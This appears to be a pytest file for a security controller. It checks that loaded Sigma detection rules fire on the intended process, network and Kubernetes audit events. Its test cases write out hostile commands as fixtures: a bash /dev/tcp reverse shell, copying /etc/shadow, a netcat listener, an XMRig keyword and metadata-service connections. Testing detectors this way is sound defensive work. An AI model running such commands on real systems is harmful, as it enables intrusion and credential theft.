# SPDX-License-Identifier: Apache-2.0
# ruff: noqa: S108 - paths in containers: none of them is opened
"""Sigma's rules fire on the events that they mean and on no others, and what has no meaning here is said by line."""

from __future__ import annotations

import base64
import json
from pathlib import Path

import pytest
from click.testing import CliRunner

from controller.bus import EmbeddedBus
from controller.cli import main
from controller.detect.backtest import backtest
from controller.detect.catalogue import load_all
from controller.detect.engine import Engine
from controller.detect.rule import Visit
from controller.detect.worker import Worker
from controller.policy.knobs import Knobs
from controller.sigma.rules import load
from controller.store import alerts
from tests.controller import make
from tests.sensor.examples import EVENTS

RULES = Path(__file__).parent / "rules"
SECRET = base64.b64encode(b"x=secretword;").decode()


@pytest.fixture(scope="module")
def loaded():
    return load(RULES)


def rule(loaded, title):
    return next(each for each in loaded.detections if each.title == title)


def fires(loaded, title, event, *before):
    visit = Visit(event.get("session") or "s", None, (*before, event))
    return rule(loaded, title).rule(visit, event) is not None


def ran(*argv, sequence=3, **process):
    more = {"exe": argv[0], "filename": argv[0], **process}
    return make.command(sequence, process=make.process(1001, *argv, **more))


def asked(**more):
    example = next(each for each in [EVENTS["record"]] if each)
    request = {
        "id": "r", "audit_id": "a", "level": "Request", "stage": "ResponseComplete", "verb": "create",
        "resource": "pods/exec", "namespace": "shop", "name": "web", "pod": "web", "container": None, "node": None,
        "user": "jane", "groups": [], "impersonated": None, "impersonated_groups": [], "addresses": ["10.0.0.5"],
        "agent": "kubectl/1.31", "code": 101, "allowed": True, "reason": None, "said": 1, "terminal": True,
        "whole": True, "absent": None, "settings": None, "role": None, "subjects": [], "grants": [],
    }  # fmt: skip
    return {**example, "request": {**request, **more}}


def connected(address, port=80):
    return make.activity(5, what="connect", address=address, port=port, protocol="tcp")


CASES = [
    ("Download by curl or wget", ran("/usr/bin/CURL", "http://x"), True),
    ("Download by curl or wget", ran("/bin/busybox", "http://x", filename="/usr/bin/wget"), True),
    ("Download by curl or wget", ran("/usr/bin/curly", "http://x"), False),
    ("Download by curl or wget", ran("/usr/bin/curl", "--version"), False),
    ("All words of a shadow copy", ran("/bin/cp", "cp", "/etc/shadow", "/tmp"), True),
    ("All words of a shadow copy", ran("/bin/cat", "/etc/shadow"), False),
    ("Begins with a hidden folder", ran("/tmp/.x/run"), True),
    ("Begins with a hidden folder", ran("/tmp/x"), False),
    ("A reverse shell by pattern", ran("/bin/bash", "-c", "sh >& /dev/tcp/10.0.0.1/99"), True),
    ("A reverse shell by pattern", ran("/bin/bash", "-c", "ls /dev/tcp"), False),
    ("Base64 of a word", ran("/bin/sh", "-c", f"echo {SECRET} | base64 -d"), True),
    ("Base64 of a word", ran("/bin/sh", "-c", "echo secretword"), False),
    ("An option by either dash", ran("/bin/nc", "nc", "/nlvp", "1"), True),
    ("An option by either dash", ran("/bin/nc", "nc", "-nlvp", "1"), True),
    ("An option by either dash", ran("/bin/nc", "nc", "nlvp"), False),
    ("A terminal is there, root is not", ran("/bin/sh", user="ada", tty="pts/0"), True),
    ("A terminal is there, root is not", ran("/bin/sh", tty="pts/0"), False),
    ("A terminal is there, root is not", ran("/bin/sh", user="ada"), False),
    ("Wildcards within", ran("nc", "-l", "80"), True),
    ("Wildcards within", ran("nc", "-lv", "80"), False),
    ("A keyword anywhere", ran("/opt/x", "--name", "XMRig"), True),
    ("A keyword anywhere", ran("/opt/x", "--name", "mine"), False),
    ("By a high uid, one of several selections", ran("/bin/sh", uid=65534), True),
    ("By a high uid, one of several selections", ran("/bin/sh", cwd="/var/dropped"), True),
    ("By a high uid, one of several selections", ran("/bin/sh"), False),
    ("Case matters", ran("/bin/env", "LD_PRELOAD=x"), True),
    ("Case matters", ran("/bin/env", "ld_preload=x"), False),
    ("To the metadata service", connected("169.254.169.254"), True),
    ("To the metadata service", connected("169.254.169.254", 443), False),
    ("To the metadata service", connected("10.0.0.1"), False),
    ("Exec into a pod", asked(), True),
    ("Exec into a pod", asked(user="system:node:n1"), False),
    ("Exec into a pod", asked(resource="pods"), False),
    ("Secrets by an odd agent", asked(resource="secrets", agent="curl/8"), True),
    ("Secrets by an odd agent", asked(resource="secrets"), False),
    ("A shell by the address of the request", {**asked(container="app"), "command": ["/bin/sh"]}, True),
    (
        "A shell by the address of the request",
        {**asked(container="app", code=403), "command": ["/bin/sh"]},
        False,
    ),
    ("A shell by the address of the request", {**asked(container="app"), "command": ["/bin/ls"]}, False),
    ("A shell by the address of the request", {**asked(container="app"), "command": None}, False),
]


@pytest.mark.parametrize(("title", "event", "expected"), CASES)
def test_a_rule_fires_on_what_it_means_alone(loaded, title, event, expected):
    assert fires(loaded, title, event) is expected


def test_a_parent_is_found_in_the_session(loaded):
    above = make.entry(1, process=make.process(1000, "/bin/sh", exe="/bin/sh"))
    assert fires(loaded, "Parent and child are the same", ran("/bin/sh", sequence=3), above)
    assert not fires(loaded, "Parent and child are the same", ran("/bin/ls", sequence=3), above)


def correlated(title, *events):
    detection = rule(load(RULES), title)  # windows of its own
    return [detection.rule(Visit(each["session"], None, (each,)), each) is not None for each in events]


def test_events_are_counted_in_a_window_and_a_group_each_once():
    seen = [ran("/bin/id", sequence=at) for at in (1, 2, 2, 3)]
    assert correlated("Looks round three times", *seen) == [False, False, False, True]
    others = [ran("/bin/id", sequence=1), ran("/bin/id", sequence=2, user="ada"), ran("/bin/id", sequence=3)]
    assert not any(correlated("Looks round three times", *others))
    late = [ran("/bin/id", sequence=at) for at in (1, 2, 90)]
    assert not any(correlated("Looks round three times", *late))


def test_different_values_are_counted():
    same = [ran("/bin/id", sequence=1), ran("/bin/id", sequence=2)]
    assert not any(correlated("Looks round by different programs", *same))
    assert correlated("Looks round by different programs", *same, ran("/bin/whoami", sequence=3))[-1]


def test_rules_together_and_in_order():
    looks, reads = ran("/bin/id", sequence=5), ran("/bin/cat", "/etc/passwd", sequence=9)
    earlier = ran("/bin/cat", "/etc/passwd", sequence=2)
    assert correlated("Looks round, then reads accounts", looks, reads)[-1]
    assert not any(correlated("Looks round, then reads accounts", earlier, looks))
    assert correlated("Looks round and reads accounts", earlier, looks)[-1]


def test_what_cannot_be_mapped_is_said_by_file_and_line(loaded):
    lines = (RULES / "sample.yml").read_text().splitlines()
    hashes = next(each for each in loaded.problems if "Hashes" in each.text)
    assert "Hashes|contains" in lines[hashes.line - 1]
    ahead = next(each for each in loaded.problems if "(?=a)b" in each.text)
    assert lines[ahead.line - 1] == "detection:"
    assert [each.text for each in loaded.others] == ["windows/process_creation: no such log here"]


def test_the_share_that_maps(loaded, capsys):
    """The sample has two rules that cannot: all the others have to."""
    with capsys.disabled():
        meant = loaded.rules - len(loaded.others)
        print(f"\nSigma sample: {len(loaded.detections)} of {meant} rules map, {loaded.share:.0%}")
    assert meant - len(loaded.detections) == 2
    assert loaded.share > 0.9


def test_check_says_it_for_programs():
    done = CliRunner().invoke(main, ["sigma", "check", str(RULES), "--json"])
    told = json.loads(done.stdout)
    assert done.exit_code == 1
    assert (told["mapped"], len(told["problems"]), told["other_logs"]) == (told["rules"] - 3, 2, 1)
    assert {"file", "line", "problem"} == set(told["problems"][0])


def test_files_that_are_no_rules_are_told_and_stop_nothing(tmp_path):
    (tmp_path / "a.yml").write_text("title: [unclosed\n")
    (tmp_path / "b.yml").write_text("just text\n")
    (tmp_path / "c.yml").write_text(
        "title: no detection\nlogsource: {product: linux, category: process_creation}\n"
    )
    (tmp_path / "d.yml").write_bytes(b"\xff\xfe")
    (tmp_path / "e.yml").write_text((RULES / "sample.yml").read_text().split("---")[0])
    found = load(tmp_path)
    assert [each.title for each in found.detections] == ["Download by curl or wget"]
    assert {each.path.name for each in found.problems} == {"a.yml", "b.yml", "c.yml", "d.yml"}


def test_the_engine_judges_them_beside_its_own_and_raises_alerts(store, host, loaded):
    bus = EmbeddedBus(store)
    worker = Worker(store, bus, Engine([*load_all()[0], *loaded.detections]))
    bus.append(
        host,
        [
            make.entry(1),
            ran("/usr/bin/curl", "http://10.0.0.1/x", sequence=3),
            make.activity(5, what="connect", address="169.254.169.254", port=80, protocol="tcp"),
            make.activity(6, what="connect", address="169.254.169.254", port=80, protocol="tcp", count=9),
        ],
        make.BEGIN,
    ).result()
    while worker.run_once():
        pass
    with store.read() as connection:
        found = {each["session"]: alerts.show(connection, each["id"]) for each in alerts.list_(connection)}
    visit = found[make.session_id()]
    assert "sigma_00000000-0000-4000-8000-000000000001" in visit["detections"]
    own = next(each for session, each in found.items() if "/container/" in session)
    assert len(own["findings"]) == 1
    assert "169.254.169.254" in own["sentence"]


def test_a_window_survives_a_restart(store, host):
    """Two of three events are dealt with by one controller, the third by the next; nothing is found twice."""
    bus = EmbeddedBus(store)
    title = "Looks round three times"

    def run(*events):
        worker = Worker(store, bus, Engine([rule(load(RULES), title)]))
        bus.append(host, list(events), make.BEGIN).result()
        while worker.run_once():
            pass
        with store.read() as connection:
            return sum(
                len(alerts.show(connection, each["id"])["findings"]) for each in alerts.list_(connection)
            )

    assert run(make.entry(1), ran("/bin/id", sequence=2), ran("/bin/id", sequence=3)) == 0
    assert run() == 0
    assert run(ran("/bin/id", sequence=4)) == 1
    assert run() == 1


def test_what_a_container_goes_on_doing_is_not_found_again_after_a_restart(store, host, loaded):
    bus = EmbeddedBus(store)
    again = {"what": "connect", "address": "169.254.169.254", "port": 80, "protocol": "tcp"}

    def run(*events):
        worker = Worker(store, bus, Engine([rule(load(RULES), "To the metadata service")]))
        bus.append(host, list(events), make.BEGIN).result()
        while worker.run_once():
            pass
        with store.read() as connection:
            return sum(
                len(alerts.show(connection, each["id"])["findings"]) for each in alerts.list_(connection)
            )

    assert run(make.start(1), make.activity(5, **again)) == 1
    assert run(make.activity(6, **again, count=9)) == 1


def test_what_a_visitor_connects_to_is_a_network_connection(loaded):
    event = EVENTS["connection"] | {
        "what": "connect",
        "address": "169.254.169.254",
        "port": 80,
        "protocol": "tcp",
    }
    assert fires(loaded, "To the metadata service", event)
    assert not fires(loaded, "To the metadata service", event | {"what": "listen"})


def test_a_backtest_of_a_network_rule_sees_what_containers_do_of_themselves(store, host, loaded):
    bus = EmbeddedBus(store)
    worker = Worker(store, bus, Engine([]))
    bus.append(host, [make.start(1), connected("169.254.169.254")], make.BEGIN).result()
    while worker.run_once():
        pass
    with store.read() as connection:
        out = backtest(connection, rule(loaded, "To the metadata service"), 0, 2**62, Knobs())
    assert [each["outcome"] for each in out.outcomes] == ["new"]
    assert out.judged == 1
